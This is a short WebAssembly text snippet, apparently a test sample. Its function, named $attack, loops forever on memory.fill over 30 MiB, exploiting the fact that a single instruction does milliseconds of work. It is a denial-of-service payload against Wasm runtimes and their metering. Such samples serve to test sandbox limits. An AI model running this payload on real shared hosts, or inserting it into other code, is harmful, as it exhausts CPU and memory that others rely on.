;; Fills 30 MiB at a time, for ever: one instruction takes milliseconds.
(memory (export "memory") 480)
(func $attack
  (loop $on
    (memory.fill (i32.const 0) (i32.const 7) (i32.const 31457280))
    (br $on)))
